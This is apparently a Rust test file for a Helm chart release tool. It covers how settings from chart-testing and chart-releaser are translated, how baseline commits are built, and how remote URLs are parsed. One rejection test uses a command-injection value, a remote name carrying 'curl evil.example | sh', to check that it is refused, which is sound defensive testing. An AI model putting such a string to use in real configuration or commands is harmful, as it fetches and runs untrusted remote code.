use std::collections::BTreeMap;

use super::*;
use crate::domain::configuration::Configuration;
use crate::domain::digest::{ObjectFormat, TreeId};
use crate::domain::names::{RemoteName, RepoPath};
use crate::domain::tree::Tree;

fn carried(tool: Tool, text: &str) -> Carried {
    let mut carried = Carried::default();
    carried.read(tool, "x.yaml", text.as_bytes()).unwrap();
    carried
}

fn told(carried: &Carried) -> String {
    let line = |note: &Note| match (&note.becomes, &note.why) {
        (Some(becomes), _) => format!("{}: {} -> {becomes}", note.line, note.key),
        (None, why) => format!("{}: {} dropped: {}", note.line, note.key, why.as_deref().unwrap_or_default()),
    };
    carried.notes.iter().map(line).collect::<Vec<_>>().join("\n")
}

#[test]
fn what_chart_testing_said() {
    let carried = carried(
        Tool::ChartTesting,
        "remote: upstream\ntarget-branch: trunk\nchart-dirs:\n  - charts\n  - ./stable/\n  - .\nexcluded-charts: [common]\nhelm-extra-args: --timeout 600s\nchart-repos: [a=https://example.com]\nchek: 1\n",
    );
    insta::assert_snapshot!(told(&carried), @r"
    1: remote -> the remote that the commands below push to
    2: target-branch -> branches.main: trunk
    3: chart-dirs -> charts: [charts/*, stable/*, *]
    7: excluded-charts dropped: it only kept ct from testing common; what lies where `charts` says is released
    8: helm-extra-args dropped: nothing is installed into a cluster; keep `ct install` in a workflow of yours and name it under `checks.outside`
    9: chart-repos dropped: dependencies are fetched from the addresses in Chart.yaml, as Chart.lock pins them
    10: chek dropped: chart-testing has no such key either
    ");
    assert_eq!(
        (carried.charts.as_slice(), carried.remote.as_ref().map(RemoteName::as_str)),
        (["charts/*".to_owned(), "stable/*".to_owned(), "*".to_owned()].as_slice(), Some("upstream"))
    );
    let text = configuration(&carried.charts, &carried, true, None);
    insta::assert_snapshot!(text, @r#"
    # Every key is optional. `chartflow` reads this file from the main branch alone.
    charts:
      - "charts/*"
      - "stable/*"
      - "*"
    branches:
      main: "trunk"
    profile: key
    "#);
    assert_eq!(Configuration::read(text.as_bytes()).unwrap().branches.main.as_str(), "trunk");
}

#[test]
fn what_chart_releaser_said() {
    let carried = carried(
        Tool::ChartReleaser,
        "pages-branch: gh-pages\nrelease-name-template: '{{ .Name }}-{{.Version}}'\nsign: false\ngenerate-release-notes: true\ncharts-repo: https://example.com\n",
    );
    insta::assert_snapshot!(told(&carried), @r#"
    1: pages-branch -> branches.release: gh-pages
    2: release-name-template -> tag: "{chart}-{version}"
    3: sign dropped: every release has a signed lineage; a provenance file of helm's is made by `chartflow package --sign`
    4: generate-release-notes dropped: the text of a release is the chart's changelog
    5: charts-repo dropped: addresses in the index are relative; `index.url` sets another place
    "#);
    let text = configuration(&["charts/*".to_owned()], &carried, false, None);
    insta::assert_snapshot!(text, @r#"
    # Every key is optional. `chartflow` reads this file from the main branch alone.
    charts:
      - "charts/*"
    branches:
      release: "gh-pages"
    tag: "{chart}-{version}"
    "#);
    let read = Configuration::read(text.as_bytes()).unwrap();
    assert_eq!((read.tag.as_str(), read.branches.release.as_str()), ("{chart}-{version}", "gh-pages"));
}

#[test]
fn what_has_no_equivalent_changes_nothing() {
    for text in [
        "release-name-template: '{{ .Name }}'",
        "release-name-template: '{{ .AppVersion }}-{{ .Version }}'",
        "release-name-template: '{{ .Name'",
        "pages-branch: 'a b'",
        "pages-branch: [x]",
        "remote: 'origin; curl evil.example | sh #'",
        "remote: -x",
        "remote: [x]",
        "remote:",
        "[]",
        "",
        "a: {b: c}",
    ] {
        let Carried { charts, main, release, tag, remote, notes } = carried(Tool::ChartReleaser, text);
        assert_eq!((charts.len(), main, release, tag, remote), (0, None, None, None, None), "{text}");
        assert!(notes.iter().all(|note| note.why.is_some()), "{text}");
    }
    assert!(Carried::default().read(Tool::ChartTesting, "ct.yaml", b"a: [").is_err());
}

#[test]
fn one_template_form_is_the_default() {
    let carried = carried(Tool::ChartReleaser, "release-name-template: '{{ .Name }}-v{{ .Version }}'\npages-branch: release\n");
    assert_eq!((carried.tag, carried.release), (None, None));
}

#[test]
fn the_baseline_is_the_charts_and_nothing_else() {
    let id = |digit: &str| TreeId::new(digit.repeat(40)).unwrap();
    let path = |text: &str| RepoPath::new(text).unwrap();
    let charts = BTreeMap::from([(path("charts/a"), id("1")), (path("charts/a/charts/inner"), id("2")), (path("stable/x/b"), id("3")), (path("top"), id("4"))]);
    let made = baseline(&charts, 1_700_000_000, ObjectFormat::Sha1).unwrap();
    let shown: Vec<String> = made
        .objects
        .iter()
        .filter(|object| object.kind == Kind::Tree)
        .map(|object| {
            let tree = Tree::parse(&object.bytes, ObjectFormat::Sha1).unwrap();
            tree.entries().iter().map(|entry| format!("{} {}", entry.name, &entry.id[..4])).collect::<Vec<_>>().join(", ")
        })
        .collect();
    insta::assert_snapshot!(shown.join("\n"), @r"
    a 1111
    b 3333
    x 0c9b
    charts 13fb, stable e305, top 4444
    ");
    insta::assert_snapshot!(String::from_utf8(made.objects.last().unwrap().bytes.clone()).unwrap(), @r"
    tree 707f6066564336ba5d5c24cd9ec1604bcfa1a8dd
    author chartflow <chartflow@chartflow.invalid> 1700000000 +0000
    committer chartflow <chartflow@chartflow.invalid> 1700000000 +0000

    chore: adoption baseline
    ");
    assert_eq!(baseline(&charts, 1_700_000_000, ObjectFormat::Sha1).unwrap(), made, "the same twice");
    assert!(baseline(&charts, 0, ObjectFormat::Sha256).is_err(), "ids of the other format");
    let empty = baseline(&BTreeMap::new(), 0, ObjectFormat::Sha1).unwrap();
    assert_eq!(empty.objects[0].bytes, b"", "git's empty tree");
}

#[test]
fn an_empty_release_branch_is_a_helm_repository() {
    let made = empty_release(0, ObjectFormat::Sha1).unwrap();
    assert_eq!(made.objects.iter().map(|object| object.kind).collect::<Vec<_>>(), [Kind::Blob, Kind::Tree, Kind::Commit]);
    let index = crate::domain::index::Index::parse(&made.objects[0].bytes).unwrap();
    assert_eq!(index.entries.len(), 0);
}

#[test]
fn workflows_that_release() {
    for (text, tool) in [
        ("      - uses: helm/chart-releaser-action@v1\n", Some("chart-releaser")),
        ("      - uses: googleapis/release-please-action@0123 # v4\n", Some("release-please")),
        ("      # - uses: helm/chart-releaser-action@v1\n", None),
        ("      - uses: helm/chart-testing-action@v2\n", None),
        ("", None),
    ] {
        assert_eq!(releaser(text), tool, "{text}");
    }
}

#[test]
fn addresses_of_remotes() {
    for (url, repository) in [
        ("https://github.com/acme/charts.git", Some("https://github.com acme/charts")),
        ("https://user:secret@github.com/acme/charts", Some("https://github.com acme/charts")),
        ("git@github.com:acme/charts.git", Some("https://github.com acme/charts")),
        ("ssh://git@git.example.com:2222/acme/charts.git", Some("https://git.example.com acme/charts")),
        ("/srv/git/charts.git", None),
        ("../charts", None),
        ("C:\\charts", None),
        ("file:///srv/charts", None),
        ("https://github.com/acme", None),
        ("", None),
    ] {
        let found = remote_repository(url).map(|(server, name)| format!("{server} {name}"));
        assert_eq!(found.as_deref(), repository, "{url}");
    }
}
